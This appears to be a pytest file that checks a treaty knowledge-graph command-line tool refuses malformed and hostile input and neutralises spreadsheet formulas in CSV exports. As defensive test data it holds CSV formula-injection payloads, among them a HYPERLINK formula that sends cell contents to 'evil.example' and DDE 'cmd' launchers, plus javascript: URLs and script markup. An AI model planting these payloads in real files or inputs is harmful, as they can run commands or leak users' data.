"""Careless and hostile input through the real CLI (issue #15, items 3, 4, 10–14, 22): malformed
metadata, law texts, question files and query text; formula cells in membership lists. Each case:
exit code 2 (or 130 for Ctrl-C), a one-line message that names the cause and the place, no
traceback, nothing written, and the graph in service left as it was."""

from __future__ import annotations

import csv
import io
import json
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import REPO, run_cli
from tests.hostile.test_builds_and_imports import HEADER, current, small  # noqa: F401 — shared fixture

SOURCES = REPO / "ingest" / "sources"
PALERMO_TEXT = SOURCES / "palermo-protocol" / "text.txt"


def refused(result: subprocess.CompletedProcess, code: str, *says: str) -> None:
    assert result.returncode == 2, (result.returncode, result.stdout[-500:], result.stderr[-2000:])
    assert "Traceback" not in result.stderr, result.stderr
    assert f"[{code}]" in result.stderr, result.stderr
    for words in says:
        assert words in result.stderr, result.stderr


def tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# --- kg add: every field checked before anything is written (items 4 and 11) ----------------------

GOOD = {"--id": "my-treaty", "--title": "A Protocol", "--jurisdiction": "INT"}


@pytest.mark.parametrize("field, value, says", [
    ("--id", "my-treaty\n", "id 'my-treaty\\n'"),
    ("--id", "../escape", "lower case letters"),
    ("--id", "My Treaty", "lower case letters"),
    ("--jurisdiction", "G B", "jurisdiction 'G B'"),
    ("--jurisdiction", "<b>GB</b>", "must be a code"),
    ("--version-date", "2024-13-45", "version_date '2024-13-45' must be a date"),
    ("--url", "javascript:alert(document.domain)", "http:// or https://"),
    ("--url", "https://example.org/a b", "must not hold spaces"),
    ("--title", "A\x1b[31m red title", "title must be one line"),
    ("--language", "english", "two- or three-letter code"),
    ("--kind", "manifesto", "kind 'manifesto' is not one of"),
])
def test_kg_add_refuses_bad_metadata_and_writes_nothing(tmp_path, field, value, says):
    sources = tmp_path / "sources"
    shutil.copytree(SOURCES / "palermo-protocol", sources / "palermo-protocol")
    before = tree(sources)
    options = {**GOOD, field: value}
    result = run_cli("add", str(PALERMO_TEXT), "--sources", str(sources), "--layout", "treaty",
                     *[part for pair in options.items() for part in pair])
    refused(result, "E003", says)
    assert len(result.stderr.strip().splitlines()) == 1
    assert tree(sources) == before


# --- hand-edited or broken files in the sources: the build stops, the graph in service stays ------

def edit_metadata(folder: Path, **changes) -> None:
    path = folder / "metadata.json"
    meta = json.loads(path.read_text(encoding="utf-8"))
    meta.update(changes)
    path.write_text(json.dumps(meta), encoding="utf-8")


BREAKAGES = {
    "jurisdiction with markup": (lambda f: edit_metadata(f, jurisdiction="GB<script>"), "E003",
                                 "metadata.json: jurisdiction 'GB<script>'"),
    "id with a newline": (lambda f: edit_metadata(f, id="palermo-protocol\n"), "E003", "metadata.json: id"),
    "javascript: official URL": (lambda f: edit_metadata(f, official_url="javascript:alert(1)"), "E003",
                                 "official_url must be an http"),
    "impossible date": (lambda f: edit_metadata(f, version_date="2000-02-30"), "E003", "version_date"),
    "invalid JSON": (lambda f: (f / "metadata.json").write_text('{"id": "palermo-protocol",\n', encoding="utf-8"),
                     "E003", "metadata.json:2: invalid JSON"),
    "unknown layout": (lambda f: edit_metadata(f, layout="scroll"), "E002", "metadata.json: unknown layout 'scroll'"),
    "text not UTF-8": (lambda f: (f / "text.txt").write_bytes(
        PALERMO_TEXT.read_bytes()[:2000] + b"\n\xff\xfe Article 99\n"), "E001", "text.txt:"),
    "empty text": (lambda f: (f / "text.txt").write_text("  \n", encoding="utf-8"), "E001", "the text is empty"),
    "text missing": (lambda f: (f / "text.txt").unlink(), "E001", "text.txt is missing"),
}


@pytest.mark.parametrize("breakage", BREAKAGES, ids=list(BREAKAGES))
def test_a_broken_source_stops_the_build_and_keeps_the_graph_in_service(small, breakage):  # noqa: F811
    data, sources = small
    run_cli("build", "--quiet", "--sources", str(sources), check=True)
    in_service = current(data)
    break_it, code, says = BREAKAGES[breakage]
    break_it(sources / "palermo-protocol")
    result = run_cli("build", "--quiet", "--sources", str(sources))
    refused(result, code, says)
    assert "palermo-protocol" in result.stderr
    assert current(data) == in_service
    listed = run_cli("instruments", "--json", check=True)
    assert "palermo-protocol" in {r["id"] for r in json.loads(listed.stdout)}


# --- formula cells: neutralised in CSV for people, exact where offered for programs (item 3) ------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-2+3+cmd|' /C notepad'!A0"]

MEMBER_NAMES = ("SELECT ?name WHERE { ?m a org:Membership ; org:member ?a . ?a rdfs:label ?name . "
                "FILTER(STRSTARTS(STR(?name), '=') || STRSTARTS(STR(?name), '+') || STRSTARTS(STR(?name), '@') "
                "|| STRSTARTS(STR(?name), '-')) } ORDER BY ?name")


@pytest.fixture()
def formula_import(small, tmp_path):  # noqa: F811
    data, sources = small
    run_cli("build", "--quiet", "--sources", str(sources), check=True)
    members = tmp_path / "hostile-members.csv"
    with members.open("w", encoding="utf-8", newline="") as f:
        f.write(HEADER)
        writer = csv.writer(f)
        for formula in FORMULAS:
            writer.writerow(["XX-NCB", formula, "national", "XX", formula, "fiu", "yes",
                             "https://example.org/minutes", f"{formula} attends", "2025"])
    run_cli("import-bodies", str(members), check=True)
    return data


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def test_kg_sparql_csv_neutralises_formula_cells_and_sparql_csv_stays_exact(formula_import):
    query = run_cli("sparql", "--help", check=True)
    assert "sparql-csv is the exact W3C CSV, for programs" in " ".join(query.stdout.split())
    for_people = run_cli("sparql", MEMBER_NAMES, "--format", "csv", check=True).stdout
    assert cells(for_people) >= {"'" + f for f in FORMULAS}
    assert not cells(for_people) & set(FORMULAS)
    for_programs = run_cli("sparql", MEMBER_NAMES, "--format", "sparql-csv", check=True).stdout
    assert cells(for_programs) >= set(FORMULAS)


def test_the_gaps_json_keeps_the_names_exactly(formula_import):
    result = run_cli("gaps", "--jurisdiction", "XX", "--json", check=True)
    (gap,) = json.loads(result.stdout)
    assert {m["name"] for m in gap["financial_members"]} == set(FORMULAS)


def test_every_csv_download_in_the_app_is_neutralised(formula_import, browser, tmp_path):  # noqa: F811
    """The gaps report and the console's 'CSV (for spreadsheets)', downloaded in headless Chromium."""
    import urllib.parse

    from kg.errors import EndpointError
    from kg.app_server import start_app

    try:
        server, url = start_app(REPO)  # reads the scratch data folder: the environment carries it
    except EndpointError as err:
        pytest.fail(str(err))
    def download(address: str, label: str) -> str:
        page.goto(address)
        button = page.get_by_text(label).first
        button.wait_for(timeout=60_000)
        with page.expect_download(timeout=30_000) as got:
            button.click()
        return Path(got.value.path()).read_text(encoding="utf-8")

    try:
        page = browser.new_page(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
        downloads = {"gaps": download(f"{url}/gaps", "Download the report (CSV)"),
                     "console": download(f"{url}/sparql?{urllib.parse.urlencode({'query': MEMBER_NAMES})}",
                                         "Download CSV (for spreadsheets)")}
        page.close()
    finally:
        server.terminate()
        server.wait(timeout=20)
    gaps_cells = cells(downloads["gaps"])
    assert "'" + FORMULAS[0] in gaps_cells  # the body's name
    assert not gaps_cells & set(FORMULAS)
    assert cells(downloads["console"]) >= {"'" + f for f in FORMULAS}
    assert not cells(downloads["console"]) & set(FORMULAS)


# --- files of questions and queries (items 12, 13) -------------------------------------------------

@pytest.mark.parametrize("make, says", [
    (lambda p: p, "file of questions not found"),
    (lambda p: (p.write_bytes(bytes(range(256)) * 8), p)[1], "binary, not text"),
    (lambda p: (p.write_bytes("Who must report?\nCaf\xe9 workers?\n".encode("latin-1")), p)[1], "not UTF-8"),
    (lambda p: (p.mkdir(), p)[1], "is a folder"),
])
def test_search_batch_names_a_file_it_cannot_read(built_graph, tmp_path, make, says):
    path = make(tmp_path / "questions.txt")
    refused(run_cli("search", "--batch", str(path)), "E033", str(path), says)


def test_ctrl_c_during_a_batch_stops_cleanly(built_graph, tmp_path):
    questions = tmp_path / "questions.txt"
    questions.write_text("\n".join(f"who must report on forced labour, question {n}?" for n in range(2000)),
                         encoding="utf-8")
    child = subprocess.Popen([sys.executable, "-m", "kg", "search", "--batch", str(questions)], cwd=REPO,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert child.stdout.readline().startswith("[")  # answering has begun
    time.sleep(0.2)
    child.send_signal(signal.SIGINT)
    _, err = child.communicate(timeout=60)
    assert child.returncode == 130
    assert "Traceback" not in err and "interrupted" in err


@pytest.mark.parametrize("query, says", [
    (b'SELECT * WHERE { ?s ?p "\xff" } LIMIT 1', "not UTF-8"),
    (b"SELECT * WHERE " + b"{ " * 40 + b"?s ?p ?o" + b" }" * 40, "nested 40 deep"),
])
def test_a_query_file_that_cannot_be_read_is_named(built_graph, tmp_path, query, says):
    path = tmp_path / "query.rq"
    path.write_bytes(query)
    result = run_cli("sparql", str(path))
    assert result.returncode == 2 and "Traceback" not in result.stderr and says in result.stderr, result.stderr


def test_a_query_argument_that_is_not_utf8_is_refused(built_graph):
    # what the shell passes for bytes that are not UTF-8: Python keeps them as lone surrogates
    result = subprocess.run([sys.executable, "-m", "kg", "sparql", b'SELECT * WHERE { ?s ?p "\xff" } LIMIT 1'],
                            cwd=REPO, capture_output=True)
    stderr = result.stderr.decode("utf-8", "replace")
    assert result.returncode == 2 and "Traceback" not in stderr
    assert "[E021]" in stderr and "not valid UTF-8" in stderr and "column 25" in stderr


# --- odd requests say what happens (items 10, 22) --------------------------------------------------

@pytest.mark.parametrize("args, code, says", [
    (("search", "-k", "0", "forced labour"), "E010", "-k must be 1 or more"),
    (("search", "--instrument", "nope", "forced labour"), "E010", "known: "),
    (("search", "--jurisdiction", "Atlantis", "forced labour"), "E010", "Atlantis"),
    (("provisions", "--instrument", "nope"), "E007", "known: "),
    (("obligations", "--instrument", "nope"), "E007", "known: "),
    (("gaps", "--jurisdiction", "NOPE"), "E031", "known: "),
    (("equivalents", "uk-msa-2015/s54\n"), "E008", "is not an id of the graph"),
    (("sparql", "no_such_library_query"), "E021", "this is not a query"),
])
def test_a_request_for_something_that_is_not_there_is_named(built_graph, args, code, says):
    refused(run_cli(*args), code, says)


def test_kg_instruments_lists_every_instrument(built_graph):
    result = run_cli("instruments", check=True)
    assert "Traceback" not in result.stderr
    for folder in SOURCES.iterdir():
        if folder.is_dir():
            assert folder.name in result.stdout
